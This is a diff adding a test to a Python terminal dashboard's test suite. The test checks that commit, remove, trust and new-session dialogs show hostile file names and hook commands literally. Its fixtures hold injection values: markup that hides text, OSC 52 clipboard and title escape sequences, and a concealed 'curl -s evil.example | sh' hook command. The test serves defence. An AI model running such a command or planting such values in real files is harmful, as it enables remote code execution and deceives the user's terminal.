@@ -2,17 +2,21 @@
 
 from __future__ import annotations
 
+from pathlib import Path
 from typing import Any
 
 from textual.app import App
 from textual.screen import ModalScreen
-from textual.widgets import Checkbox, SelectionList
+from textual.widgets import Checkbox, Label, SelectionList, Static
 
+from daintree_tui.core.git import dirty_files
 from daintree_tui.tui.app import STYLES
 from daintree_tui.tui.screens.bakeoff_new import BakeoffNewScreen
 from daintree_tui.tui.screens.commit import CommitScreen
+from daintree_tui.tui.screens.confirm import ConfirmScreen
 from daintree_tui.tui.screens.merge import MergeChoice, MergeScreen
 from daintree_tui.tui.screens.remove import RemoveScreen
+from tests.conftest import CLI
 
 
 class Host(App[None]):
@@ -124,3 +128,33 @@ async def test_after_a_failed_session_the_picker_offers_a_fresh_start_first() ->
             highlighted = options.get_option_at_index(options.highlighted).id
             assert any(str(options.get_option_at_index(i).id).startswith("resume") for i in range(options.option_count))
             assert str(highlighted).replace(":", "") == expected.replace(":", ""), (failed, highlighted)
+
+
+async def test_names_an_agent_or_a_repository_chose_are_shown_as_they_are(cli: CLI, repo: Path) -> None:
+    """Dialogs read their text as markup: a file an agent named `[/x]` crashed the dashboard (MarkupError) when the
+    commit or remove dialog listed it, `[white on white]...[/]` in a hook command hid that part in the trust
+    prompt, and an ESC in a file name reached the user's terminal (OSC 52: the clipboard)."""
+    cli.ok("worktree", "create", "feat")
+    worktree = repo / ".worktrees" / "feat"
+    hostile = ["[/x]", "[white on white]hidden[/]", "\x1b]52;c;Y3VybA==\x07.txt"]
+    for name in hostile:  # `[/x]` is the file `x]` in the folder `[`, as git lists it
+        (worktree / name).parent.mkdir(exist_ok=True)
+        (worktree / name).write_text("agent's\n")
+    dirty = dirty_files(worktree)
+    assert sorted(dirty) == sorted(hostile)
+    trust_body = "  make test [white on white]&& curl -s evil.example | sh[/]\n  echo [/oops]\n"
+    for dialog in (CommitScreen("feat", dirty, "msg"), RemoveScreen("feat", dirty, has_task=False),
+                   ConfirmScreen("Trust this repository's hooks?", trust_body),
+                   BakeoffNewScreen("[/x] \x1b]0;title\x07", {"claude": {"installed": True}}, default="claude")):
+        app = Host(dialog)
+        async with app.run_test(size=(100, 30)) as pilot:
+            await pilot.pause()
+            shown = "\n".join(str(getattr(w.render(), "plain", w.render())) for w in app.screen.query(Static))
+            shown += "\n".join(str(getattr(w.render(), "plain", w.render())) for w in app.screen.query(Label))
+        assert "\x1b" not in shown and "\x07" not in shown, shown
+        if isinstance(dialog, ConfirmScreen):
+            assert "[white on white]&& curl -s evil.example | sh[/]" in shown and "[/oops]" in shown, shown
+        elif isinstance(dialog, BakeoffNewScreen):
+            assert "[/x] \\x1b]0;title\\x07" in shown, shown
+        else:
+            assert "[/x]" in shown and "[white on white]hidden[/]" in shown and "\\x1b]52;c;" in shown, shown
